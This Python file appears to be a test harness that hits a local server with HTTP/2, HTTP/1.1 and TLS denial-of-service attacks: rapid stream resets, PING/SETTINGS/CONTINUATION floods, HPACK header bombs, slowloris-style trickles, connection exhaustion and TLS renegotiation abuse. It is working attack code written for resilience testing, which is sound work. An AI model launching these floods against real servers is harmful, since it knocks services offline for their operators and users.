# SPDX-License-Identifier: Apache-2.0
"""What one bad client does to a port, over and over: each function is an attack, and runs in a
process of its own (neighbour.py) until it is ended.

An attack sends a burst a time at most, and takes a new connection when the server has hung up; how
often that was, `to.ended` says.
"""
import ctypes
import socket
import ssl
import threading
import time

import raw_h2 as h2

PATH = "/v1/tokens/tok_test_none"
TOKENS = "/v1/tokens"
ENTRIES = "/v1/audit/entries?start=0&limit=256"
JSON = [("content-type", "application/json")]
HEAD = b"POST /v1/tokens HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"


class Target:
    """`port` of a system, as a principal; `sent` and `ended` are seen by who started it."""

    def __init__(self, system, port, who, sent, ended, bursts_per_second):
        self.port = port
        self.contexts = {alpn: h2.context(system, who, alpn) for alpn in ("h2", "http/1.1")}
        self.sent = sent
        self.ended = ended
        self.pause_s = 1 / bursts_per_second
        self.next_at = time.monotonic()

    def pace(self):
        left = self.next_at - time.monotonic()
        if left > 0:
            time.sleep(left)
        self.next_at = max(self.next_at, time.monotonic() - 0.1) + self.pause_s

    def connect(self, alpn="h2", first=h2.PREFACE + h2.settings(), patient=True):
        """Tries until it is let in."""
        while True:
            try:
                found = h2.Connection(self.port, self.contexts[alpn], first)
                self.sent.value += 1
                return found
            except (OSError, ssl.SSLError):
                if not patient:
                    raise
                time.sleep(0.05)

    def raw(self):
        self.sent.value += 1
        return socket.create_connection(("127.0.0.1", self.port), timeout=5)

    def repeat(self, burst, alpn="h2", deaf=False, first=h2.PREFACE + h2.settings()):
        """Sends burst(n) for n = 0, 1, … on one connection after the other."""
        while True:
            connection = self.connect(alpn, first)
            count = 0
            while not connection.closed:
                self.pace()
                if connection.send(burst(count)):
                    self.sent.value += 1
                if not deaf:
                    while connection.receive(0.0005):
                        pass
                count += 1
            self.ended.value += 1
            connection.close()
            time.sleep(0.05)

    def hold(self, count, begin, then=None, alpn="h2"):
        """Many connections at one time, each begun once and fed a little each second."""
        held = []
        while len(held) < count:
            self.pace()
            held.append(self.connect(alpn))
            held[-1].send(begin)
        while True:
            time.sleep(1)
            for one in held:
                if then is not None and not one.closed:
                    one.send(then)
            for one in [one for one in held if not one.closed]:
                one.receive(0)
            gone = [one for one in held if one.closed]
            self.ended.value += len(gone)
            held = [one for one in held if not one.closed]


def _streams(count, first, make):
    """make(stream) for `count` streams in a row; first: how many bursts were before."""
    return b"".join(make(2 * (first * count + i) + 1) for i in range(count))


def _open(stream):
    """A request whose body never comes."""
    return h2.request(stream, "POST", TOKENS, JSON, ends=False)


# ---- Resets ----

def resets_of_whole_requests(to):
    to.repeat(lambda n: _streams(100, n, lambda s: h2.request(s, "GET", PATH) + h2.reset(s)))


def resets_of_requests_that_never_become_whole(to):
    to.repeat(lambda n: _streams(100, n, lambda s: _open(s) + h2.reset(s)))


def resets_inside_a_header_block(to):
    to.repeat(lambda n: h2.frame(h2.HEADERS, 0, 2 * n + 1, h2.block("GET", PATH)) +
              h2.reset(2 * n + 1))


# ---- Frames that carry nothing ----

def pings(to):
    to.repeat(lambda n: h2.frame(h2.PING, 0, 0, bytes(8)) * 500)


def pings_of_the_deaf(to):
    to.repeat(lambda n: h2.frame(h2.PING, 0, 0, bytes(8)) * 500, deaf=True)


def settings(to):
    to.repeat(lambda n: h2.settings((h2.INITIAL_WINDOW_SIZE, 1 + n)) * 500)


def settings_of_the_deaf(to):
    to.repeat(lambda n: h2.settings() * 500, deaf=True)


def acks_of_no_settings(to):
    to.repeat(lambda n: h2.frame(h2.SETTINGS, h2.ACK) * 500)


def empty_data(to):
    to.repeat(lambda n: (_open(1) if n == 0 else b"") + h2.frame(h2.DATA, 0, 1) * 500)


def padding(to):
    """Frames of 255 bytes that bring none."""
    empty = h2.frame(h2.DATA, h2.PADDED, 1, bytes([255]) + bytes(255))
    to.repeat(lambda n: (_open(1) if n == 0 else b"") + empty * 200)


def empty_headers(to):
    to.repeat(lambda n: _streams(200, n, lambda s: h2.frame(
        h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, s)))


def empty_continuations(to):
    to.repeat(lambda n: (h2.frame(h2.HEADERS, 0, 1, h2.block("GET", PATH)) if n == 0 else b"") +
              h2.frame(h2.CONTINUATION, 0, 1) * 500)


def continuations_without_end(to):
    filler = h2.literal("x-filler", "x" * 16000)
    to.repeat(lambda n: (h2.frame(h2.HEADERS, 0, 1, h2.block("GET", PATH)) if n == 0 else b"") +
              h2.frame(h2.CONTINUATION, 0, 1, filler))


def trailers_without_end(to):
    def burst(n):
        begin = _open(1) + h2.frame(h2.HEADERS, h2.END_STREAM, 1, b"") if n == 0 else b""
        return begin + h2.frame(h2.CONTINUATION, 0, 1, h2.literal("x-t", "x" * 100)) * 20
    to.repeat(burst)


def frames_of_no_known_type(to):
    to.repeat(lambda n: h2.frame(0x42, 0, 0) * 1000)


def priorities(to):
    to.repeat(lambda n: b"".join(h2.priority(2 * (i % 15) + 1, 2 * ((i + 1) % 15) + 1, i % 256,
                                             i % 2 == 0) for i in range(500)))


def a_stream_on_itself(to):
    to.repeat(lambda n: h2.priority(2 * n + 1, 2 * n + 1))


# ---- Windows ----

def windows_opened_by_nothing(to):
    to.repeat(lambda n: h2.window_update(0, 0))


def streams_windows_opened_by_nothing(to):
    to.repeat(lambda n: _streams(50, n, lambda s: _open(s) + h2.window_update(s, 0)))


def windows_that_overflow(to):
    to.repeat(lambda n: h2.window_update(0, 0x7fffffff) * 2)


def windows_opened_byte_by_byte(to):
    first = h2.PREFACE + h2.settings((h2.INITIAL_WINDOW_SIZE, 1))
    to.repeat(lambda n: _streams(90, 0, lambda s: h2.request(s, "GET", ENTRIES)) if n == 0 else
              _streams(90, 0, lambda s: h2.window_update(s, 1)), first=first)


def windows_that_stay_shut(to):
    first = h2.PREFACE + h2.settings((h2.INITIAL_WINDOW_SIZE, 0))
    to.repeat(lambda n: _streams(90, 0, lambda s: h2.request(s, "GET", ENTRIES)) if n == 0 else
              b"", first=first, deaf=True)


# ---- Slow ones ----

def heads_that_trickle(to):
    to.hold(40, b"GET / HTTP/1.1\r\nX-Slow: ", b"x", "http/1.1")


def bodies_that_trickle(to):
    to.hold(40, HEAD + b"Content-Length: 100000\r\n\r\n", b"x", "http/1.1")


def chunks_that_trickle(to):
    to.hold(40, HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\n \r\n", "http/1.1")


def frames_that_trickle(to):
    to.hold(40, _open(1) + b"\0\0\x10\0\0\0\0\0\x01", b"x")


def streams_that_trickle(to):
    to.hold(40, _streams(20, 0, _open), h2.frame(h2.DATA, 0, 1, b" "))


def answers_that_are_not_taken(to):
    to.hold(20, b"GET /v1/audit/entries?start=0&limit=256 HTTP/1.1\r\nHost: localhost\r\n\r\n" *
            1000, None, "http/1.1")


def hands_that_stay_unshaken(to):
    held = [to.raw() for _ in range(1000)]
    while held:
        for one in list(held):
            one.setblocking(False)
            try:
                if one.recv(1) == b"":
                    held.remove(one)
                    to.ended.value += 1
            except BlockingIOError:
                pass
            except OSError:
                held.remove(one)
                to.ended.value += 1
        time.sleep(0.2)
    time.sleep(60)


def both(one, other):
    """Two attacks at one time."""
    def attack(to):
        threading.Thread(target=one, args=(to,), daemon=True).start()
        other(to)
    attack.__name__ = f"{one.__name__}_and_{other.__name__}"
    return attack


def all_that_are_slow(to):
    kinds = (heads_that_trickle, bodies_that_trickle, chunks_that_trickle, frames_that_trickle,
             streams_that_trickle, answers_that_are_not_taken, hands_that_stay_unshaken)
    for kind in kinds[1:]:
        threading.Thread(target=kind, args=(to,), daemon=True).start()
    kinds[0](to)


# ---- Connections ----

def connections_that_say_nothing(to):
    """More than there may be."""
    held = []
    while True:
        if len(held) < 4500:
            for _ in range(50):
                try:
                    held.append(to.raw())
                except OSError:
                    break
        to.pace()


def handshakes(to):
    while True:
        to.pace()
        to.connect().close()


def connections_that_go_at_once(to):
    while True:
        to.pace()
        for _ in range(10):
            to.raw().close()


def hellos_that_go_at_once(to):
    """Each costs the server a signature."""
    while True:
        to.pace()
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        hello = to.contexts["h2"].wrap_bio(incoming, outgoing, server_hostname="localhost")
        try:
            hello.do_handshake()
        except ssl.SSLWantReadError:
            pass
        with to.raw() as sock:
            sock.sendall(outgoing.read())
            sock.recv(1)


def _with_libssl(to, version_max, again):
    """TLS as OpenSSL's library has it, for what Python's does not show; again(libssl, ssl)."""
    libssl = ctypes.CDLL("libssl.so.3")
    for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
        getattr(libssl, name).restype = ctypes.c_void_p
    context = ctypes.c_void_p(libssl.SSL_CTX_new(ctypes.c_void_p(libssl.TLS_client_method())))
    libssl.SSL_CTX_ctrl(context, 124, ctypes.c_long(version_max), None)  # Highest version.
    while True:
        with to.raw() as sock:
            one = ctypes.c_void_p(libssl.SSL_new(context))
            sock.setblocking(True)
            libssl.SSL_set_fd(one, sock.fileno())
            open_still = libssl.SSL_connect(one) == 1
            while open_still:
                to.pace()
                open_still = again(libssl, one) and libssl.SSL_do_handshake(one) == 1
                to.sent.value += open_still
            libssl.SSL_free(one)
            to.ended.value += 1
        time.sleep(0.05)


def keys_that_change_all_the_time(to):
    _with_libssl(to, 0x0304, lambda libssl, one: libssl.SSL_key_update(one, 0) == 1)


def handshakes_anew_on_one_connection(to):
    _with_libssl(to, 0x0303, lambda libssl, one: libssl.SSL_renegotiate(one) == 1)


# ---- Much of what is allowed ----

def streams_over_the_limit(to):
    to.repeat(lambda n: _streams(150, n, _open))


def streams_at_the_limit(to):
    """A hundred open, one answered and another opened, again and again."""
    to.repeat(lambda n: _streams(100, 0, _open) if n == 0 else
              h2.frame(h2.DATA, h2.END_STREAM, 2 * n - 1, b"{}") + _open(2 * (99 + n) + 1))


def headers_out_of_a_table(to):
    """One byte of a block stands for four thousand of a header."""
    def burst(n):
        keep = h2.literal("x-bomb", "x" * 4000, keep=True) if n == 0 else b""
        block = h2.block("POST", TOKENS) + keep + h2.indexed(62) * 11000
        return h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * n + 1, block[:16384]) + \
            (h2.frame(h2.CONTINUATION, h2.END_HEADERS, 2 * n + 1, block[16384:])
             if len(block) > 16384 else b"")
    to.repeat(burst)


def tables_that_grow(to):
    to.repeat(lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 2 * n + 1,
                                 h2.table_size(4096) + h2.block("GET", PATH) +
                                 b"".join(h2.literal(f"x-{n}-{i}", "x" * 100, keep=True)
                                          for i in range(90))))


def heads_without_end(to):
    """HTTP/1.1: headers, and more headers."""
    to.repeat(lambda n: (b"GET / HTTP/1.1\r\nHost: localhost\r\n" if n == 0 else b"") +
              b"X-Filler: " + b"x" * 16000 + b"\r\n", "http/1.1")


def requests_in_a_row(to):
    to.repeat(lambda n: f"GET {PATH} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 20,
              "http/1.1")


def chunks_of_one_byte(to):
    to.repeat(lambda n: (HEAD + b"Transfer-Encoding: chunked\r\n\r\n" if n == 0 else b"") +
              b"1\r\n \r\n" * 2000, "http/1.1")


def a_chunk_s_extension_without_end(to):
    to.repeat(lambda n: (HEAD + b"Transfer-Encoding: chunked\r\n\r\n1" if n == 0 else b"") +
              b";x=" + b"y" * 16000, "http/1.1")


def chunked_trailers_without_end(to):
    to.repeat(lambda n: (HEAD + b"Transfer-Encoding: chunked\r\n\r\n0\r\n" if n == 0 else b"") +
              b"X-Trailer: y\r\n" * 1000, "http/1.1")


def bodies_without_end(to):
    """Hundreds of megabytes, in streams that each stay within what a body may have."""
    data = bytes(16384)
    held = [to.connect() for _ in range(20)]
    stream = 1
    while True:
        for index, one in enumerate(held):
            if one.closed:
                to.ended.value += 1
                one.close()
                held[index] = one = to.connect()
            to.pace()
            one.send(_open(stream) + h2.frame(h2.DATA, 0, stream, data) * 55)
            one.receive(0)
        stream += 2


def bytes_behind_the_end(to):
    """An error that the server wants to say, and cannot; then whatever there is."""
    first = h2.PREFACE + h2.settings((h2.INITIAL_WINDOW_SIZE, 0x7fffffff)) + \
        h2.window_update(0, 0x7fff0000)
    to.repeat(lambda n: _streams(90, 0, lambda s: h2.request(s, "GET", ENTRIES)) +
              h2.frame(h2.DATA, 0, 0) if n == 0 else bytes(60000), first=first, deaf=True)
